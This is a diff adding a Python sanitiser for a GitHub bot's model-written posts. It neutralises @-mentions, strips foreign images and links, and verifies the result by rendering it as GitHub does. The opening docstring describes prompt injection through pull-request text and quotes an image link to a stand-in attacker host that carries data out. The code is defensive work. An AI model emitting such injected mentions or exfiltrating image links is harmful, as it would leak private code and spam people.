@@ -1,0 +1,516 @@
+"""What Petrel posts, made harmless whatever the model or the pull request wrote in it.
+
+The diff, the issue and the model's answer are written by whoever opened the pull request, so
+any text Petrel posts may carry a prompt-injected `@org/team` (pinging a hundred people in
+Petrel's name) or `![](https://attacker.example/?data=...)` (GitHub's image proxy fetches that
+URL for every viewer: a private repository's code leaves with it). Two rules, on every posted
+text (bodies, review comments, replies, description sections), after the secrets are redacted:
+
+- outside code, no @-mention pings: a zero-width space follows the @ (code spans and fenced
+  code blocks are kept byte for byte: a ```suggestion block must still apply);
+- outside code, no image and no link points to a host other than GitHub's own (`GITHUB_URL`,
+  derived from `GITHUB_API_URL`): such an image becomes IMAGE_REMOVED, such a link keeps its
+  text and shows its URL as code (inert: not clickable, never fetched), raw HTML other than
+  plain formatting tags is escaped, and LINKS_NOTE says so at the end. Links to GitHub's host
+  stay, so Petrel's own links to files and issues work.
+
+The scanner below reads Markdown as CommonMark does for the constructs that matter (code spans,
+fences, links, images, autolinks, raw HTML), but a scanner is not the parser. So the result is
+then rendered with cmark-gfm, GitHub's own Markdown parser (the `cmarkgfm` package), and the
+HTML is checked: a text outside <code>/<pre> with a pinging mention, or any URL attribute
+outside GitHub's host, means the scanner misread something, and the whole text is posted as a
+fenced code block instead (with every mention neutralised even there), under FALLBACK_NOTE.
+cmarkgfm costs about 2 ms to import and 1.4 MB installed; its only dependency, cffi, already
+comes with PyGithub's cryptography.
+"""
+
+from __future__ import annotations
+
+import html
+import logging
+import re
+from html.parser import HTMLParser
+
+log = logging.getLogger("petrel.harmless")
+
+ZWSP = "\u200b"
+IMAGE_REMOVED = "(image removed)"
+LINKS_NOTE = ("<sub>Petrel removed images and made links inert (shown as code) that pointed to hosts other "
+              "than {host}: text written from a pull request must not send its content elsewhere.</sub>")
+FALLBACK_NOTE = ("<sub>Petrel shows this text as code: its mentions, links or images could not be made "
+                 "harmless otherwise.</sub>")
+REFUSED = "_Petrel could not make this text harmless to post, so it is left out._"
+
+# Raw HTML that only formats: kept when it has no attribute but these. Any other tag is escaped.
+SAFE_TAGS = frozenset({
+    "details", "summary", "sub", "sup", "b", "i", "em", "strong", "code", "kbd", "samp", "var", "tt", "br", "hr",
+    "p", "div", "span", "ins", "del", "s", "strike", "u", "mark", "small", "blockquote", "pre", "ul", "ol", "li",
+    "dl", "dt", "dd", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6",
+})
+SAFE_ATTRIBUTES = frozenset({"open", "align", "colspan", "rowspan"})
+# attributes that make a browser (or GitHub's image proxy) fetch or link a URL
+URL_ATTRIBUTES = frozenset({"href", "src", "srcset", "poster", "background", "action", "formaction", "data", "cite",
+                            "longdesc", "xlink:href", "usemap", "codebase", "lowsrc", "dynsrc", "manifest", "ping",
+                            "icon", "profile", "archive", "classid"})
+
+_FENCE_OPEN = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
+_BLANK = re.compile(r"^[ \t]*$")
+_BLOCK_START = re.compile(r"^ {0,3}(?:[-+*]|\d{1,9}[.)]|#{1,6})(?:[ \t]|$)")
+_TABLE_DELIMITER = re.compile(r"^ {0,3}\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$")
+_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
+_AT_ENTITY = re.compile(r"&(?:#0*64|#[xX]0*40|commat);")
+_URI_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\x00-\x20<>]*)>")
+_EMAIL_AUTOLINK = re.compile(r"<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?"
+                             r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?)*>")
+_ATTRIBUTE = r"""(?:\s+[A-Za-z_:][A-Za-z0-9_.:\-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?)"""
+_OPEN_TAG = re.compile(rf"<([A-Za-z][A-Za-z0-9\-]*)({_ATTRIBUTE}*)\s*/?>")
+_CLOSE_TAG = re.compile(r"</([A-Za-z][A-Za-z0-9\-]*)\s*>")
+_ATTRIBUTE_NAME = re.compile(r"""\s+([A-Za-z_:][A-Za-z0-9_.:\-]*)(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?""")
+_COMMENT = re.compile(r"<!--(.*?)-->", re.DOTALL)
+_BARE_URL = re.compile(r"(?:https?://|ftp://|www\.)", re.IGNORECASE)
+_TASK = re.compile(r"^[ \t]*(?:>[ \t]*)*(?:[-+*]|\d{1,9}[.)])[ \t]+$")
+# GitHub's mention rule, made stricter: an @ after anything but an ASCII word character, then a
+# letter or digit of any script (GitHub's is ASCII, case-insensitive)
+_PINGING = re.compile(r"(?:^|[^A-Za-z0-9_])@[^\W_]")
+
+
+def make_harmless(text: str, host: str) -> str:
+    """`text` with no pinging mention and no image or link to a host other than `host` outside
+    code, checked by rendering it as GitHub does; text the scanner cannot make harmless is
+    posted as a code block. Apply it to text whose secrets are already redacted."""
+    out, inert = neutralise(text, host)
+    if inert:
+        out = f"{out.rstrip()}\n\n{LINKS_NOTE.format(host=host)}"
+    problems = check(out, host)
+    if not problems:
+        return out
+    log.warning("posting a text as code: %s", problems[0])
+    out = as_code(text)
+    if check(out, host):  # cannot happen: a fence longer than any in the text holds it all
+        log.error("a text could not be made harmless: %s", check(out, host)[0])
+        return REFUSED
+    return out
+
+
+def neutralise(text: str, host: str) -> tuple[str, int]:
+    """(the text with mentions neutralised and foreign links and images made inert outside code,
+    how many links and images were made inert). Fenced code blocks are kept as they are."""
+    out: list[str] = []
+    inert = 0
+    for is_code, part in _blocks(text):
+        if is_code:
+            out.append(part)
+        else:
+            scanner = _Inline(part, host)
+            out.append(scanner.run())
+            inert += scanner.inert
+    return "".join(out), inert
+
+
+def neutralise_everywhere(text: str) -> str:
+    """Every @ that could start a mention neutralised, in code too (safe whatever the Markdown)."""
+    text = _AT_ENTITY.sub("@", text)
+    return re.sub(r"@(?=[^\W_]|&)", "@" + ZWSP, text)
+
+
+def as_code(text: str) -> str:
+    """The text as one fenced code block (longer than any run of tildes in it), mentions neutralised too."""
+    body = neutralise_everywhere(text)
+    fence = "~" * max(3, max((len(run) for run in re.findall(r"~+", body)), default=0) + 1)
+    return f"{FALLBACK_NOTE}\n\n{fence}text\n{body.rstrip()}\n{fence}"
+
+
+def allowed_url(url: str, host: str) -> bool:
+    """True for a URL that stays on `host`: relative, an anchor, http(s) to `host`, or a mail address."""
+    value = re.sub(r"[\t\n\r]", "", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12"
+                                                "\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
+    lowered = value.lower()
+    scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", lowered)
+    if scheme:
+        if scheme.group(1) == "mailto":
+            return not re.search(r"[?&]", value)  # an address, no prefilled body
+        if scheme.group(1) not in ("http", "https"):
+            return False
+        return _same_host(value[scheme.end():], host)
+    if re.match(r"^[/\\]{2}", value):  # protocol-relative: //host/...
+        return _same_host(value, host)
+    return True  # a path on the page's own host, or an anchor
+
+
+def _same_host(rest: str, host: str) -> bool:
+    authority = re.split(r"[/\\?#]", rest.lstrip("/\\"), maxsplit=1)[0]
+    if "@" in authority or "%" in authority:
+        return False
+    name = authority.rsplit(":", 1)[0] if not authority.endswith("]") else authority
+    return name.lower().rstrip(".") == host.lower()
+
+
+# --------------------------------------------------------------------------- blocks
+
+
+def _blocks(text: str):
+    """(is_code, text) pieces: fenced code blocks (opening line to closing line), and the text
+    between them cut where no code span or link can cross: at blank lines, before a list item or a
+    heading, and around each cell of a table (GitHub splits a table's rows at | first)."""
+    pending: list[str] = []
+    fence: tuple[str, int] | None = None
+    table = False
+    lines = text.splitlines(keepends=True)
+    for number, line in enumerate(lines):
+        bare = line.rstrip("\r\n")
+        if fence is not None:
+            pending.append(line)
+            char, length = fence
+            if re.match(rf"^ {{0,3}}{re.escape(char)}{{{length},}}[ \t]*$", bare):
+                yield True, "".join(pending)
+                pending, fence = [], None
+            continue
+        opening = _FENCE_OPEN.match(bare)
+        starts_fence = opening and not (opening.group(2)[0] == "`" and "`" in opening.group(3))
+        if starts_fence or _BLANK.match(bare) or _BLOCK_START.match(bare):
+            if pending:
+                yield False, "".join(pending)
+            pending = []
+        if starts_fence:
+            pending, fence, table = [line], (opening.group(2)[0], len(opening.group(2))), False
+            continue
+        if _BLANK.match(bare):
+            table = False
+            yield False, line
+            continue
+        following = lines[number + 1].rstrip("\r\n") if number + 1 < len(lines) else ""
+        table = table or ("|" in bare and bool(_TABLE_DELIMITER.match(following)))
+        if table:
+            if pending:
+                yield False, "".join(pending)
+                pending = []
+            for cell in re.split(r"((?<!\\)\|)", line):
+                if cell:
+                    yield False, cell
+            continue
+        pending.append(line)
+    if pending:
+        yield fence is not None, "".join(pending)
+
+
+# --------------------------------------------------------------------------- inlines
+
+
+def _code(text: str, longest: int) -> str:
+    """`text` as a code span whose backtick run is longer than `longest` (and than any in it)."""
+    text = text.replace("\r", " ").replace("\n", " ")
+    runs = max([longest, *(len(run) for run in re.findall(r"`+", text))]) + 1
+    pad = " " if text.startswith(("`", " ")) or text.endswith(("`", " ")) else ""
+    return f"{'`' * runs}{pad}{text}{pad}{'`' * runs}"
+
+
+def _unescape(value: str) -> str:
+    """A link destination as the browser gets it: backslash escapes and entities resolved."""
+    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", value))
+
+
+def _backtick_run(s: str, i: int) -> int:
+    j = i
+    while j < len(s) and s[j] == "`":
+        j += 1
+    return j - i
+
+
+def _code_span_end(s: str, i: int) -> int | None:
+    """End of the code span opened by the backtick run at `i`, or None when no run of the same length closes it."""
+    n = _backtick_run(s, i)
+    j = i + n
+    while True:
+        j = s.find("`", j)
+        if j < 0:
+            return None
+        m = _backtick_run(s, j)
+        if m == n:
+            return j + m
+        j += m
+
+
+def _raw_tag_end(s: str, i: int) -> int | None:
+    """End of an autolink or a raw HTML tag starting at `i` (they take precedence over code spans)."""
+    for pattern in (_URI_AUTOLINK, _EMAIL_AUTOLINK, _OPEN_TAG, _CLOSE_TAG, _COMMENT):
+        match = pattern.match(s, i)
+        if match:
+            return match.end()
+    return None
+
+
+def _matching_bracket(s: str, i: int) -> int | None:
+    """Index of the `]` closing the `[` at `i` (balanced, skipping escapes, code spans, tags)."""
+    depth, j = 0, i
+    while j < len(s):
+        c = s[j]
+        if c == "\\" and j + 1 < len(s) and s[j + 1] in _PUNCTUATION:
+            j += 2
+            continue
+        if c == "`":
+            end = _code_span_end(s, j)
+            j = end if end is not None else j + _backtick_run(s, j)
+            continue
+        if c == "<":
+            end = _raw_tag_end(s, j)
+            if end is not None:
+                j = end
+                continue
+        if c == "[":
+            depth += 1
+        elif c == "]":
+            depth -= 1
+            if depth == 0:
+                return j
+        j += 1
+    return None
+
+
+def _destination(s: str, k: int) -> tuple[str, int] | None:
+    """(destination, end after the closing parenthesis) of an inline link whose `(` is at k - 1."""
+    n = len(s)
+    j = k
+    while j < n and s[j] in " \t\n":
+        j += 1
+    if j < n and s[j] == "<":
+        end = j + 1
+        while end < n and s[end] not in "<>\n":
+            end += 2 if s[end] == "\\" else 1
+        if end >= n or s[end] != ">":
+            return None
+        destination, j = s[j + 1:end], end + 1
+    else:
+        start, depth = j, 0
+        while j < n and s[j] > " ":
+            c = s[j]
+            if c == "\\" and j + 1 < n and s[j + 1] in _PUNCTUATION:
+                j += 2
+                continue
+            if c == "(":
+                depth += 1
+            elif c == ")":
+                if depth == 0:
+                    break
+                depth -= 1
+            j += 1
+        destination = s[start:j]
+    spaced = j
+    while j < n and s[j] in " \t\n":
+        j += 1
+    if j < n and s[j] in "\"'(" and j > spaced:
+        close = ")" if s[j] == "(" else s[j]
+        j += 1
+        while j < n and s[j] != close:
+            j += 2 if s[j] == "\\" else 1
+        if j >= n:
+            return None
+        j += 1
+        while j < n and s[j] in " \t\n":
+            j += 1
+    if j < n and s[j] == ")":
+        return destination, j + 1
+    return None
+
+
+def _url_end(s: str, i: int) -> int:
+    """End of a bare URL starting at `i`, with GFM's trailing punctuation left out."""
+    j = i
+    while j < len(s) and not s[j].isspace() and s[j] not in "<>\"'`":  # stopping early is safe: what follows starts no link
+        j += 1
+    while j > i:
+        last = s[j - 1]
+        if last in "?!.,:*_~'\"":
+            j -= 1
+        elif last == ")" and s[i:j].count(")") > s[i:j].count("("):
+            j -= 1
+        elif last == ";" and re.search(r"&[A-Za-z0-9]+;$", s[i:j]):
+            j = i + re.search(r"&[A-Za-z0-9]+;$", s[i:j]).start()
+        else:
+            break
+    return j
+
+
+class _Inline:
+    """One pass over a paragraph's text, left to right, as CommonMark reads its inlines."""
+
+    def __init__(self, s: str, host: str, code_spans: bool = True, longest: int | None = None):
+        self.s = s
+        self.host = host
+        self.code_spans = code_spans
+        self.longest = longest if longest is not None else max((len(r) for r in re.findall(r"`+", s)), default=0)
+        self.inert = 0
+
+    def _sub(self, text: str, code_spans: bool = True) -> str:
+        inner = _Inline(text, self.host, code_spans, self.longest)
+        out = inner.run()
+        self.inert += inner.inert
+        return out
+
+    def run(self) -> str:
+        s, out, i, n = self.s, [], 0, len(self.s)
+        while i < n:
+            c = s[i]
+            if c == "\\" and i + 1 < n and s[i + 1] in _PUNCTUATION:
+                if s[i + 1] == "@":  # \@ shows an @: it is a mention's start like any other
+                    out.append("\\")
+                    i += 1
+                else:
+                    out.append(s[i:i + 2])
+                    i += 2
+                continue
+            if c == "`" and self.code_spans:
+                end = _code_span_end(s, i)
+                run = _backtick_run(s, i)
+                out.append(s[i:end] if end is not None else s[i:i + run])
+                i = end if end is not None else i + run
+                continue
+            if c == "<":
+                i = self._angle(i, out)
+                continue
+            if c == "!" and s.startswith("![", i):
+                i = self._link(i + 1, out, image=True)
+                continue
+            if c == "[":
+                i = self._link(i, out, image=False)
+                continue
+            if c in "hHfFwW" and _BARE_URL.match(s, i):
+                prefix = _BARE_URL.match(s, i).group(0)
+                end = _url_end(s, i)
+                url = s[i:end]
+                if end - i <= len(prefix):  # nothing after http:// or www.: no link
+                    out.append(c)
+                    i += 1
+                elif allowed_url("http://" + url if prefix.lower() == "www." else url, self.host):
+                    out.append(url)
+                    i = end
+                else:
+                    out.append(_code(url, self.longest))
+                    self.inert += 1
+                    i = end
+                continue
+            if c == "@" or (c == "&" and _AT_ENTITY.match(s, i)):
+                width = 1 if c == "@" else _AT_ENTITY.match(s, i).end() - i
+                before = s[i - 1] if i else ""
+                after = s[i + width] if i + width < n else ""
+                out.append(s[i:i + width])
+                if not re.match(r"[A-Za-z0-9_]", before) and (after.isalnum() or after == "&"):
+                    out.append(ZWSP)
+                i += width
+                continue
+            out.append(c)
+            i += 1
+        return "".join(out)
+
+    def _angle(self, i: int, out: list[str]) -> int:
+        """An autolink, a raw HTML tag or comment, or a lone `<`, at i."""
+        s = self.s
+        for pattern in (_URI_AUTOLINK, _EMAIL_AUTOLINK):
+            match = pattern.match(s, i)
+            if match:
+                target = match.group(0)[1:-1]
+                if pattern is _EMAIL_AUTOLINK or allowed_url(target, self.host):
+                    out.append(match.group(0))
+                else:
+                    out.append(_code(target, self.longest))
+                    self.inert += 1
+                return match.end()
+        comment = _COMMENT.match(s, i)
+        if comment:  # hidden; its text is made harmless too, in case GitHub does not read it as a comment
+            out.append("<!--" + self._sub(comment.group(1), code_spans=False) + "-->")
+            return comment.end()
+        for pattern in (_OPEN_TAG, _CLOSE_TAG):
+            match = pattern.match(s, i)
+            if match and match.group(1).lower() in SAFE_TAGS:
+                attributes = _ATTRIBUTE_NAME.findall(match.group(2)) if pattern is _OPEN_TAG else []
+                if all(name.lower() in SAFE_ATTRIBUTES for name in attributes):
+                    out.append(match.group(0))
+                    return match.end()
+        if i + 1 < len(s) and (s[i + 1].isalpha() or s[i + 1] in "/!?"):
+            out.append("&lt;")  # any other tag (img, a, picture, ...) is shown, not rendered
+        else:
+            out.append("<")
+        return i + 1
+
+    def _link(self, i: int, out: list[str], image: bool) -> int:
+        """An inline link or image whose `[` is at i; any other `[` is escaped (no reference link,
+        whatever definitions the surrounding document holds)."""
+        s = self.s
+        if (not image and s.startswith(("[ ]", "[x]", "[X]"), i) and s[i + 3:i + 4] in (" ", "\t", "\n", "")
+                and _TASK.match(s[s.rfind("\n", 0, i) + 1:i])):
+            out.append(s[i:i + 3])  # a task list's checkbox
+            return i + 3
+        close = _matching_bracket(s, i)
+        parsed = _destination(s, close + 2) if close is not None and s.startswith("(", close + 1) else None
+        if parsed is None:
+            out.append("!\\[" if image else "\\[")
+            return i + 1
+        destination, end = parsed
+        target = _unescape(destination[1:-1] if destination.startswith("<") else destination)
+        text = s[i + 1:close]
+        if allowed_url(target, self.host):
+            out.append(("!" if image else "") + "[" + self._sub(text) + "]" + s[close + 1:end])
+        elif image:
+            out.append(IMAGE_REMOVED)
+            self.inert += 1
+        else:
+            label = self._sub(text)
+            out.append(f"{label} ({_code(target, self.longest)})" if label.strip() else _code(target, self.longest))
+            self.inert += 1
+        return end
+
+
+# --------------------------------------------------------------------------- the check
+
+
+def render(markdown: str) -> str:
+    """`markdown` as GitHub renders it: cmark-gfm with GitHub's extensions, raw HTML kept (GitHub
+    sanitises it afterwards; the check below is stricter than that sanitiser)."""
+    import cmarkgfm
+    from cmarkgfm.cmark import Options
+
+    return cmarkgfm.github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES)
+
+
+def check(markdown: str, host: str) -> list[str]:
+    """What would be harmful in `markdown` as GitHub renders it: a text outside <code>/<pre> with
+    a pinging mention, a URL attribute (href, src, srcset, ...) to another host than `host`."""
+    checker = _Checker(host)
+    checker.feed(render(markdown))
+    checker.close()
+    return checker.problems
+
+
+class _Checker(HTMLParser):
+    def __init__(self, host: str):
+        super().__init__(convert_charrefs=True)
+        self.host = host
+        self.code = 0
+        self.problems: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self._attributes(tag, attrs)
+        if tag in ("code", "pre"):
+            self.code += 1
+
+    def handle_startendtag(self, tag, attrs):
+        self._attributes(tag, attrs)
+
+    def handle_endtag(self, tag):
+        if tag in ("code", "pre") and self.code:
+            self.code -= 1
+
+    def handle_data(self, data):
+        if not self.code and _PINGING.search(data):
+            self.problems.append(f"a mention outside code: {_PINGING.search(data).group(0)!r}")
+
+    def _attributes(self, tag, attrs):
+        for name, value in attrs:
+            name = name.lower()
+            if name == "style" and value and "url(" in value.replace(" ", "").lower():
+                self.problems.append(f"<{tag} style> with a url()")
+            if name not in URL_ATTRIBUTES or value is None:
+                continue
+            urls = [part.strip().split(" ")[0] for part in value.split(",")] if name == "srcset" else [value]
+            for url in urls:
+                if not allowed_url(url, self.host):
+                    self.problems.append(f"<{tag} {name}> to another host: {url[:80]!r}")
